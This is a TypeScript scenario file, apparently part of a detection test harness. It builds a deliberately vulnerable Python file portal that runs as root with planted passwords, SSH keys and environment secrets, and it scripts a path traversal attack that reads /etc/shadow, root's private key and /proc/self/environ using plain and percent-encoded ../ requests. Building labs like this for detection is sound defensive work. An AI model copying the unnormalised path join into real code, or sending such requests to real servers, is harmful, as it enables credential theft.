/**
 * A company document portal in Python (stdlib http.server only): a JSON
 * catalogue of shared files, download counts, and a download endpoint that
 * joins the requested name onto its root without normalising it: path
 * traversal. The portal runs as root, as many containerised apps do, so the
 * attacker reads /etc/shadow, root's SSH key (generated at image build) and
 * the process environment with its secrets, and lists directories to find
 * more.
 */
import type { Prng } from '../../detect/lib/prng.js';
import { http, httpOk } from '../clients/http.js';
import type { Scenario, ScenarioContext } from '../types.js';

interface Doc {
  dept: string;
  name: string;
  text: string;
}

const line = (i: number, cols: string[]) => cols.map((c, j) => `${c}${(i * 31 + j * 7) % 97}`).join(',');
const rows = (n: number, cols: string[]) => Array.from({ length: n }, (_, i) => line(i, cols)).join('\n') + '\n';

// Ordinary files of a few sizes, so downloads differ in how much they read and write.
const DOCS: Doc[] = [
  { dept: 'hr', name: 'handbook.txt', text: 'Employee handbook\n\n' + 'Working hours are flexible between 7 and 19.\n'.repeat(120) },
  { dept: 'hr', name: 'holidays-2024.csv', text: 'date,holiday\n' + rows(14, ['2024-0', 'day']) },
  { dept: 'finance', name: 'q1-report.csv', text: 'account,amount\n' + rows(400, ['acct', '']) },
  { dept: 'finance', name: 'q2-report.csv', text: 'account,amount\n' + rows(450, ['acct', '']) },
  { dept: 'finance', name: 'expense-policy.txt', text: 'Expenses over 500 need approval.\n'.repeat(40) },
  { dept: 'eng', name: 'runbook.md', text: '# Runbook\n\n' + '- restart the worker, check the queue depth\n'.repeat(80) },
  { dept: 'eng', name: 'oncall.txt', text: rows(30, ['week', 'engineer']) },
  { dept: 'eng', name: 'architecture.md', text: '# Architecture\n\n' + 'The portal serves files from a shared volume.\n'.repeat(200) },
  { dept: 'sales', name: 'pricelist.csv', text: 'sku,price\n' + rows(150, ['sku', '']) },
  { dept: 'sales', name: 'customers.csv', text: 'customer,region\n' + rows(250, ['cust', 'region']) },
  { dept: 'public', name: 'logo.svg', text: '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle cx="20" cy="20" r="18"/></svg>\n' },
  { dept: 'public', name: 'welcome.txt', text: 'Welcome to the document portal.\n' },
];
const DEPTS = [...new Set(DOCS.map((d) => d.dept))];
const USERS = ['alice', 'bjorn', 'chidi', 'dora', 'eli', 'fumi', 'gwen', 'hugo'];

const SERVER = `#!/usr/bin/python3
"""Document portal: shared files by department, with a JSON catalogue."""
import json
import os
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

ROOT = '/srv/files'
TYPES = {'.csv': 'text/csv', '.md': 'text/markdown', '.svg': 'image/svg+xml', '.txt': 'text/plain'}
# The catalogue is read once at start: listing a folder per request is not this portal's habit.
with open('/srv/app/catalogue.json') as f:
    CATALOGUE = json.load(f)
STARTED = time.time()
downloads = {}


class Portal(BaseHTTPRequestHandler):
    server_version = 'docportal/1.3'

    def send_body(self, code, body, ctype):
        self.send_response(code)
        self.send_header('Content-Type', ctype)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def send_json(self, code, value):
        self.send_body(code, json.dumps(value).encode(), 'application/json')

    def do_GET(self):
        url = urlsplit(self.path)
        q = parse_qs(url.query)
        if url.path == '/api/health':
            self.send_json(200, {'status': 'ok', 'uptime': round(time.time() - STARTED, 1)})
        elif url.path == '/api/files':
            dept = q.get('dept', [''])[0]
            self.send_json(200, [d for d in CATALOGUE if dept in ('', d['dept'])])
        elif url.path == '/api/stats':
            self.send_json(200, {'downloads': downloads, 'total': sum(downloads.values())})
        elif url.path == '/download':
            self.download(q.get('path', [''])[0])
        else:
            self.send_json(404, {'error': 'not found'})

    def download(self, name):
        # The bug: the name is joined as given, so '..' (or an absolute path) leaves ROOT.
        path = os.path.join(ROOT, name)
        if os.path.isdir(path):
            return self.send_json(200, sorted(os.listdir(path)))
        try:
            with open(path, 'rb') as f:
                data = f.read()
        except OSError:
            return self.send_json(404, {'error': 'no such file'})
        downloads[name] = downloads.get(name, 0) + 1
        self.send_body(200, data, TYPES.get(os.path.splitext(name)[1], 'application/octet-stream'))


if __name__ == '__main__':
    server = ThreadingHTTPServer(('127.0.0.1', int(sys.argv[1])), Portal)
    server.daemon_threads = True
    server.serve_forever()
`;

const files: Record<string, string | { text: string; mode: number }> = {
  '/srv/app/server.py': { text: SERVER, mode: 0o755 },
  '/srv/app/catalogue.json': JSON.stringify(DOCS.map((d) => ({ dept: d.dept, path: `${d.dept}/${d.name}`, size: Buffer.byteLength(d.text) }))) + '\n',
};
for (const d of DOCS) files[`/srv/files/${d.dept}/${d.name}`] = d.text;

// Secrets the attacker goes for, each reached by traversal from /srv/files.
const SECRETS = ['etc/shadow', 'root/.ssh/id_ed25519', 'proc/self/environ', 'proc/self/cmdline', 'srv/app/server.py', 'etc/hostname'];
const LISTINGS = ['root/.ssh/', 'root/', 'home/', 'srv/app/'];

export const pythonTraversal: Scenario = {
  name: 'python-traversal',
  application: 'Python http.server document portal (JSON catalogue, file downloads)',
  attackKind: 'path traversal → secret file reads',
  attack: 'the download endpoint joins the requested path unnormalised: the attacker climbs out of the file root with ../ to read /etc/passwd, /etc/shadow, root\'s SSH private key and /proc/self/environ, and lists directories to find more',
  image: {
    name: 'python-traversal',
    packages: ['python3', 'openssh-client'],
    files,
    // Secrets made at build time, so start-up stays fast: root's key pair and real password hashes in /etc/shadow.
    setup: [
      'mkdir -p /root/.ssh && chmod 700 /root/.ssh',
      "ssh-keygen -q -t ed25519 -N '' -C deploy@docportal -f /root/.ssh/id_ed25519",
      'cp /root/.ssh/id_ed25519.pub /root/.ssh/authorized_keys',
      'useradd -m -s /bin/sh portal',
      "echo 'root:Harbour-Lights-42' | chpasswd && echo 'portal:portal2024' | chpasswd",
    ].join('\n'),
  },
  // The app's secrets come in its environment, as a container's usually do.
  command: (ctx) => ['/usr/bin/env', 'DATABASE_URL=postgresql://portal:Tr0ub4dor@127.0.0.1:5432/portal', 'SESSION_SECRET=9f2c1e7a4b6d8e0f', '/usr/bin/python3', '/srv/app/server.py', String(ctx.port)],
  async ready(ctx) {
    await httpOk({ port: ctx.port, path: '/api/files', timeoutMs: 3000 });
  },
  async session(ctx: ScenarioContext, rng: Prng) {
    const user = USERS[rng.int(USERS.length)]!;
    const get = async (path: string) => {
      ctx.log(`GET ${path} (${user})`);
      await httpOk({ port: ctx.port, path, headers: { 'X-User': user }, signal: ctx.signal });
    };
    // A visit: look at the catalogue (all or one department), download a few files, sometimes check the counts.
    const dept = rng.float() < 0.5 ? DEPTS[rng.int(DEPTS.length)]! : '';
    await get(dept ? `/api/files?dept=${dept}` : '/api/files');
    const pool = dept ? DOCS.filter((d) => d.dept === dept) : DOCS;
    const downloads = 1 + rng.int(3);
    for (let i = 0; i < downloads && !ctx.signal.aborted; i++) {
      const d = pool[rng.int(pool.length)]!;
      await get(`/download?path=${encodeURIComponent(`${d.dept}/${d.name}`)}`);
    }
    if (!ctx.signal.aborted && rng.float() < 0.25) await get(rng.float() < 0.5 ? '/api/stats' : '/api/health');
  },
  async attackRun(ctx, rng) {
    const up = () => '../'.repeat(2 + rng.int(4));
    const fetch = async (target: string) => {
      // Plain dots and slashes, or every character percent-encoded as scanners send them: the server decodes the query either way.
      const raw = up() + target;
      const path = `/download?path=${rng.float() < 0.5 ? raw : [...raw].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('')}`;
      ctx.log(`GET ${path}`);
      await http({ port: ctx.port, path, timeoutMs: 10_000 });
    };
    // Probe with a file every system has, then take the secrets and look around, in a seeded order.
    await fetch('etc/passwd');
    const wanted = [...SECRETS, ...LISTINGS.filter(() => rng.float() < 0.6)];
    const targets = Array.from(rng.shuffle(Uint32Array.from(wanted, (_, i) => i)), (i) => wanted[i]!);
    // The key's folder is always listed: the attacker checks what else is there.
    if (!targets.includes('root/.ssh/')) targets.push('root/.ssh/');
    for (const t of targets) await fetch(t);
  },
  evidence: ['getdents64', 'openat', 'read'],
};
